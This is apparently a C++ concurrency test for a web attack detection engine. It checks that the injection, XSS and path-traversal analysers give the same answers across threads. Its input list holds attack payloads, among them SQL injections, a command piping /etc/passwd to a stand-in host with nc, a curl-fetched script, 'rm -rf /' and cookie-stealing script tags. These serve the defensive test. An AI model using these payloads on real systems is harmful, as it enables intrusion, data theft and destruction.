// The analysis entry points called from many threads at once give the same answers as one
// thread alone. The threads start together before anything is built, so the one-time
// construction of the registry, the expressions and the automata is raced as well; built
// with -DQUENLITH_SANITIZE=thread this test is the race detector's workload.
#include <atomic>
#include <cstdint>
#include <functional>
#include <latch>
#include <string>
#include <string_view>
#include <thread>
#include <variant>
#include <vector>

#include <fmt/format.h>
#include <fmt/ranges.h>
#include <gtest/gtest.h>

#include "core/evaluation/input_analysis/header.h"
#include "core/evaluation/input_analysis/input.h"
#include "core/evaluation/input_analysis/json.h"
#include "core/evaluation/input_type.h"
#include "core/evaluation/rules/cmd_injection/cmd_sink.h"
#include "core/evaluation/rules/cmd_injection/semantic_chained_command.h"
#include "core/evaluation/rules/cmd_injection/semantic_dangerous_path.h"
#include "core/evaluation/rules/method_tampering/method_tampering.h"
#include "core/evaluation/rules/mongo/query_type.h"
#include "core/evaluation/rules/path_traversal/semantic_file_security_bypass.h"
#include "core/evaluation/rules/reflected_xss/sink_checks.h"
#include "core/evaluation/rules/reflected_xss/sink_checks_codec.h"
#include "core/evaluation/rules/rule_type.h"
#include "core/evaluation/rules/sql_injection/context_free.h"
#include "core/evaluation/rules/sql_injection/sql_sink.h"
#include "core/evaluation/rules/ssjs_injection/sink_check.h"
#include "core/log/log.h"
#include "urlencoded/urlencoded.h"

namespace sorvane {
namespace {

using evaluation::InputType;
using evaluation::rules::Finding;
using evaluation::rules::RuleType;
namespace input = evaluation::input_analysis::input;
namespace header = evaluation::input_analysis::header;
namespace json = evaluation::input_analysis::json;
namespace rules = evaluation::rules;
namespace xss = evaluation::rules::reflected_xss::sink_checks;

constexpr int kThreads = 8;
constexpr int kRounds = 10;

// Texts that trigger the rules and analysers, texts that trigger nothing, and odd ones
// (empty, invalid UTF-8, an embedded NUL, non-ASCII characters).
const std::vector<std::string> kTexts = {
    "",
    "hello world",
    "1' OR '1'='1' --",
    "x' UNION SELECT password FROM users --",
    "; cat /etc/passwd | nc evil 4444",
    "$(curl http://x/y.sh)",
    "../../../../etc/passwd",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{\"$where\": \"sleep(100)\"}",
    "__proto__",
    "constructor.prototype.polluted",
    "shell.php.jpg",
    "require('child_process').exec('id')",
    "sqlmap/1.7 (https://sqlmap.org)",
    "caf\xc3\xa9 na\xc3\xafve \xe2\x82\xac\xf0\x9f\x98\x80 '; DROP TABLE t; --",
    std::string("a\0b' or 1=1--", 13),
    "\xff\xfe\x80 invalid",
    "%27%20OR%201%3D1--",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
};

const std::vector<RuleType> kAllRules = {1, 2, 4, 8, 16, 32, 64, 128, 256, 512};

const std::vector<std::pair<std::string, std::string>> kHeaders = {
    {"User-Agent", "sqlmap/1.7"},
    {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"},
    {"Referer", "http://example.com/../../etc/passwd"},
    {"Accept-Encoding", "gzip, deflate"},
    {"Content-Type", "text/html; charset=utf-8"},
    {"X-Forwarded-For", "1' or '1'='1"},
    {"Cookie", "<script>alert(1)</script>"},
};

const std::vector<std::string> kBodies = {
    R"({"user":{"name":{"$ne":null},"age":{"$gt":18}},"q":"1' OR '1'='1"})",
    R"({"__proto__":{"admin":true},"path":"../../etc/passwd"})",
    R"([{"a":"<script>alert(1)</script>"},"; rm -rf /"])",
    R"({"a":)",
    R"({"a" 1})",
    "[1,2,]",
    "\"x\\u00zz\"",
};

std::string format_findings(const std::vector<Finding>& findings) {
  std::string out;
  for (const Finding& f : findings) {
    out += fmt::format("[{} {} {} {}]", rules::rule_name(f.rule),
                       evaluation::input_type_name(f.input_type), f.score, fmt::join(f.ids, ","));
  }
  return out;
}

std::string format_json(const json::JsonOutcome& outcome) {
  if (const auto* error = std::get_if<1>(&outcome)) return "error: " + error->details();
  std::string out;
  for (const json::JsonResult& result : std::get<0>(outcome)) {
    if (const auto* finding = std::get_if<json::JsonFinding>(&result)) {
      out += fmt::format("{{{} @{} = {}}}", format_findings({finding->finding}),
                         fmt::join(finding->path, "/"), finding->value);
    } else {
      const auto& clause = std::get<rules::mongo::QueryClause>(result);
      out += fmt::format("{{clause @{}}}", fmt::join(clause.path, "/"));
    }
  }
  return out;
}

std::string format_match(const std::optional<xss::SinkMatch>& match) {
  if (!match) return "none";
  return fmt::format("{} {} {}", match->source, match->match_byte_index, match->match_byte_length);
}

// A body scanned in three chunks, the state and inputs carried through their byte format
// as the bindings carry them.
std::string scan_in_chunks(std::string_view body, const std::vector<std::string>& values) {
  std::vector<xss::UserInput> inputs;
  for (const std::string& v : values) inputs.push_back({v, 0});
  std::vector<std::uint8_t> state_bytes = xss::serialize_state(xss::XssState{});
  std::vector<std::uint8_t> input_bytes = xss::serialize_inputs(inputs);
  const std::size_t third = body.size() / 3;
  const std::string_view chunks[] = {body.substr(0, third), body.substr(third, third),
                                     body.substr(2 * third)};
  std::string out;
  for (std::string_view chunk : chunks) {
    auto state = xss::deserialize_state(state_bytes);
    auto decoded = xss::deserialize_inputs(input_bytes);
    if (!state || !decoded) return "undecodable: " + state.error() + decoded.error();
    xss::XssState s = *state;
    std::vector<xss::UserInput> in = *decoded;
    auto match = xss::has_vulnerability(chunk, in, s);
    if (match) return out + format_match(match);
    state_bytes = xss::serialize_state(s);
    input_bytes = xss::serialize_inputs(in);
    out += fmt::format("{}|", fmt::join(state_bytes, " "));
  }
  return out + "none";
}

using Job = std::function<std::string()>;

std::vector<Job> make_jobs() {
  std::vector<Job> jobs;
  for (const std::string& text : kTexts) {
    for (std::uint8_t t = 1; t <= 14; ++t) {
      for (bool prefer : {false, true}) {
        jobs.push_back([&text, t, prefer] {
          return format_findings(
              input::check_input(text, static_cast<InputType>(t), kAllRules, prefer));
        });
      }
    }
    // Each rule alone, in reverse order and repeated: the caller's order is kept.
    for (RuleType rule : kAllRules) {
      jobs.push_back([&text, rule] {
        const RuleType one[] = {rule};
        return format_findings(input::check_input(text, InputType::ParameterValue, one, false));
      });
    }
    jobs.push_back([&text] {
      const RuleType reversed[] = {512, 256, 128, 64, 32, 16, 8, 4, 2, 1, 8, 4};
      return format_findings(input::check_input(text, InputType::ParameterValue, reversed, false));
    });
    for (const auto& [name, value] : kHeaders) {
      jobs.push_back([&name, &text] {
        return format_findings(header::check_header(name, text, kAllRules, false));
      });
      jobs.push_back([&name, &value] {
        return format_findings(header::check_header(name, value, kAllRules, false));
      });
    }
    jobs.push_back([&text] {
      const std::string query = "SELECT * FROM t WHERE a = '" + text + "' AND b = 1";
      std::string out;
      for (std::uint8_t db = 1; db <= 7; ++db) {
        out += fmt::format("{}", rules::sql_injection::check_sql_query(
            27, text.size(), static_cast<rules::sql_injection::DbType>(db), query));
      }
      return out;
    });
    jobs.push_back([&text] {
      const std::string command = "convert " + text + " out.png";
      return fmt::format("{}", rules::cmd_injection::check_command(8, text.size(), command));
    });
    jobs.push_back([&text] {
      const std::string code = "var x = '" + text + "'; run(x);";
      return fmt::format("{} {}",
                         rules::ssjs_injection::sink_check::check_js_code(code, 9, text.size()),
                         rules::ssjs_injection::sink_check::check_js_code(text, 0, text.size()));
    });
    jobs.push_back([&text] {
      namespace cmd = rules::cmd_injection;
      namespace path = rules::path_traversal::semantic_file_security_bypass;
      auto chain = cmd::semantic_chained_command::index_of_chaining(text);
      return fmt::format(
          "{} {} {} {} {} {} {}", rules::sql_injection::context_free::check_context_free_sql(text),
          chain ? static_cast<long long>(*chain) : -1LL,
          cmd::semantic_dangerous_path::contains_dangerous_path(text),
          path::is_dangerous_path(text, false), path::is_dangerous_path(text, true),
          rules::mongo::is_query_type(text), rules::method_tampering::is_method_tampering(text));
    });
    jobs.push_back([&text] { return fmt::format("{}", fmt::join(urlencoded::decode(text), "|")); });
    jobs.push_back([&text] {
      const std::string body = "<html><script>var q = \"" + text + "\";</script><iframe src=\"" +
                               text + "\"></iframe></html>";
      std::vector<xss::UserInput> inputs = {{text, 0}, {"alert(1)", 0}};
      xss::XssState state;
      std::string whole = format_match(xss::has_vulnerability(body, inputs, state));
      return whole + " / " + scan_in_chunks(body, {text, "<b>", "x'y"});
    });
  }
  for (const std::string& body : kBodies) {
    for (bool prefer : {false, true}) {
      jobs.push_back(
          [&body, prefer] { return format_json(json::check_json(body, kAllRules, prefer)); });
    }
    jobs.push_back([&body] {
      const RuleType mongo[] = {rules::kNosqlInjectionMongo};
      return format_json(json::check_json(body, mongo, false));
    });
  }
  return jobs;
}

// Counts records from any thread; every log line of the evaluations is formatted.
class CountingLogger final : public log::Logger {
 public:
  void log(const log::Record&) override { count.fetch_add(1, std::memory_order_relaxed); }
  std::atomic<std::size_t> count{0};
};

// Every thread runs every job `kRounds` times, each thread starting at its own offset so
// that different entry points meet; the answers are then compared with one thread's.
void expect_same_answers_on_all_threads(const std::vector<Job>& jobs) {
  std::vector<std::vector<std::string>> answers(kThreads, std::vector<std::string>(jobs.size()));
  std::vector<std::size_t> disagreements(kThreads, 0);
  std::latch start(kThreads);
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      start.arrive_and_wait();
      for (int round = 0; round < kRounds; ++round) {
        for (std::size_t k = 0; k < jobs.size(); ++k) {
          const std::size_t j =
              (k + static_cast<std::size_t>(t) * jobs.size() / kThreads) % jobs.size();
          std::string answer = jobs[j]();
          if (round == 0) {
            answers[t][j] = std::move(answer);
          } else if (answer != answers[t][j]) {
            ++disagreements[t];
          }
        }
      }
    });
  }
  for (std::thread& thread : threads) thread.join();

  for (std::size_t j = 0; j < jobs.size(); ++j) {
    const std::string expected = jobs[j]();
    for (int t = 0; t < kThreads; ++t) {
      ASSERT_EQ(answers[t][j], expected) << "job " << j << " on thread " << t;
    }
  }
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(disagreements[t], 0u) << "thread " << t;
}

TEST(Concurrency, EntryPointsAgreeAcrossThreads) {
  const std::vector<Job> jobs = make_jobs();
  expect_same_answers_on_all_threads(jobs);
}

TEST(Concurrency, EntryPointsAgreeAcrossThreadsWhileLogging) {
  CountingLogger logger;
  const log::Level previous = log::max_level();
  log::set_max_level(log::Level::Trace);
  log::set_capture_for_testing(&logger);
  const std::vector<Job> jobs = make_jobs();
  expect_same_answers_on_all_threads(jobs);
  log::set_capture_for_testing(nullptr);
  log::set_max_level(previous);
  EXPECT_GT(logger.count.load(), 0u);
}

}  // namespace
}  // namespace sorvane
